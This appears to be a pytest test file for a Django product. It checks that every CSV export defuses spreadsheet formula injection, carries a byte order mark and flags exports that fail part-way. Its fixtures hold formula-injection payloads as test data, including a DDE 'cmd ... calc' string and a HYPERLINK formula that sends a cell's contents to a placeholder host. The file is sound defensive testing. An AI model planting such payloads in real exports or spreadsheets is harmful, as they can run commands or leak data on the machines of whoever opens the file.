"""Every CSV the product writes is safe to open in a spreadsheet, and never silently truncated.

The exports are found by walking every URL of the resolver (as the tenant tests do) and asking
each for `?format=csv`: whatever answers `text/csv` is an export and must pass the same checks,
so an export added later is covered the day it appears.
"""

from __future__ import annotations

import csv
import functools
import io
import logging

import pytest
from django.db import DatabaseError

from audit import selectors as audit_selectors
from common.csv_export import BOM, FORMULA_PREFIXES, INCOMPLETE_MARKER, csv_response, safe_cell
from events.models import Event
from orders import commands
from tests import factories

from .test_tenant_isolation import ROUTES

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&A1,"open")'
DANGEROUS = [HYPERLINK, "=1+2", "@SUM(A1:A9)", "+1", "-1+1", "\tcmd", "\r=1"]


@pytest.fixture
def hostile_orders(staff, manager):
    """The issue's example: a cancel reason and a shipment's carrier/tracking that are formulas,
    and a customer name / SKU that are too."""
    cancelled = factories.place(staff, customer="=cmd|' /C calc'!A0")
    commands.cancel(cancelled.id, actor=staff, expected_version=1, reason=HYPERLINK)
    approved = factories.advance(
        factories.place(staff), "in_fulfilment", staff=staff, manager=manager
    )
    commands.ship(
        approved.id,
        actor=staff,
        expected_version=approved.version,
        carrier="=1+2",
        tracking_number="@SUM(A1:A9)",
    )
    # A correction's reason: the controls report (/audit/controls/) lists corrections.
    amended = factories.advance(factories.place(staff), "approved", staff=staff, manager=manager)
    commands.amend_order(
        amended.id,
        actor=staff,
        details=factories.details(),
        lines=factories.lines(1),
        reason=HYPERLINK,
        expected_version=amended.version,
    )
    return [cancelled, approved]


def csv_rows(response) -> tuple[str, list[list[str]]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    return text, list(csv.reader(io.StringIO(text.removeprefix(BOM))))


@pytest.fixture
def exports(hostile_orders, logged_in, manager):
    """(url, response) of every CSV export reachable by an Acme manager, over hostile orders."""
    client = logged_in(manager)
    found = []
    for order in hostile_orders:
        for route in (r for r in ROUTES if "<str:name>" not in r):
            url = "/" + route.replace("<uuid:order_id>", str(order.id))
            if any(url == seen for seen, _ in found):  # a list route, already asked
                continue
            response = client.get(url, {"format": "csv"})
            if response.get("Content-Type", "").startswith("text/csv"):
                found.append((url, response))
    return found


def test_the_walk_finds_every_csv_export(exports, hostile_orders):
    urls = {url for url, _ in exports}
    assert "/audit/" in urls
    assert "/orders/" in urls  # the filtered list (issue #19)
    for order in hostile_orders:
        assert f"/orders/{order.id}/history/" in urls


def test_no_export_has_a_cell_a_spreadsheet_would_run(exports):
    for url, response in exports:
        assert response.status_code == 200, url
        _, rows = csv_rows(response)
        cells = [cell for row in rows for cell in row]
        assert any("HYPERLINK" in c or "SUM(" in c or "=cmd|" in c for c in cells), (
            f"{url}: no hostile data to test"
        )
        risky = [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
        assert not risky, f"{url} writes formula cells: {risky}"


def test_every_export_starts_with_a_utf8_byte_order_mark(exports):
    for url, response in exports:
        text, _ = csv_rows(response)
        assert text.startswith(BOM), url


def test_the_history_export_keeps_the_typed_text_after_the_apostrophe(
    hostile_orders, logged_in, manager
):
    cancelled, shipped = hostile_orders
    client = logged_in(manager)

    _, cancel_rows = csv_rows(client.get(f"/orders/{cancelled.id}/history/", {"format": "csv"}))
    _, ship_rows = csv_rows(client.get(f"/orders/{shipped.id}/history/", {"format": "csv"}))

    header = cancel_rows[0]
    reasons = [row[header.index("reason")] for row in cancel_rows[1:]]
    assert "'" + HYPERLINK in reasons
    shipment = ship_rows[-1]
    assert shipment[header.index("carrier")] == "'=1+2"
    assert shipment[header.index("tracking_number")] == "'@SUM(A1:A9)"


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_text_cell_starting_a_formula_is_neutralised(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Initech", "", "a=b", "12.50", 42, -42, None, "'quoted"])
def test_other_cells_are_left_as_they_are(value):
    assert safe_cell(value) == value


def test_a_query_that_fails_before_the_first_byte_is_an_error_not_a_200():
    def rows():
        raise DatabaseError("disk I/O error")
        yield  # pragma: no cover

    with pytest.raises(DatabaseError):
        csv_response("x.csv", ["a"], rows())


def test_a_failure_part_way_says_so_at_the_end_of_the_file(caplog):
    def rows():
        yield ["first"]
        raise DatabaseError("disk I/O error")

    response = csv_response("x.csv", ["a"], rows())

    with caplog.at_level(logging.ERROR, logger="ledgerline.export"):
        _, parsed = csv_rows(response)
    assert parsed[:2] == [["a"], ["first"]]
    assert parsed[-1][0] == INCOMPLETE_MARKER
    assert "incomplete" in parsed[-1][1]
    assert "CSV export failed part-way" in caplog.text


def test_the_audit_export_marks_a_failure_in_its_second_chunk(
    hostile_orders, logged_in, auditor, monkeypatch
):
    # Chunks of one event, and the database fails on the second chunk's query.
    original = audit_selectors.filtered_events
    calls = []

    def failing_after_one_chunk(company_id, data):
        calls.append(1)
        if len(calls) > 1:
            raise DatabaseError("database disk image is malformed")
        return original(company_id, data)

    monkeypatch.setattr(audit_selectors, "filtered_events", failing_after_one_chunk)
    monkeypatch.setattr(
        audit_selectors,
        "audit_csv_rows",
        functools.partial(audit_selectors.audit_csv_rows, chunk=1),
    )

    response = logged_in(auditor).get("/audit/", {"format": "csv"})

    assert response.status_code == 200
    _, rows = csv_rows(response)
    assert len(rows) == 3  # header, the first chunk's event, the marker
    assert rows[-1][0] == INCOMPLETE_MARKER


def test_a_forged_request_id_header_is_not_written_to_the_log_or_the_export(
    staff, logged_in, manager
):
    client = logged_in(staff)
    forged = '=HYPERLINK("http://x.invalid")'

    response = client.post(
        "/orders/new/",
        {
            "customer_name": "Initech",
            "lines-TOTAL_FORMS": "1",
            "lines-INITIAL_FORMS": "0",
            "lines-0-sku": "A",
            "lines-0-quantity": "1",
            "lines-0-unit_price": "1.00",
        },
        HTTP_X_REQUEST_ID=forged,
    )

    assert response.status_code == 302
    event = Event.objects.latest("position")
    assert event.metadata["correlation_id"] != forged
    assert response["X-Request-ID"] == event.metadata["correlation_id"]
    text, _ = csv_rows(
        logged_in(manager).get(f"/orders/{event.stream_id}/history/", {"format": "csv"})
    )
    assert "HYPERLINK" not in text


def test_a_well_formed_request_id_from_the_proxy_is_kept(staff, logged_in):
    response = logged_in(staff).get("/orders/", HTTP_X_REQUEST_ID="0123456789abcdef")

    assert response["X-Request-ID"] == "0123456789abcdef"
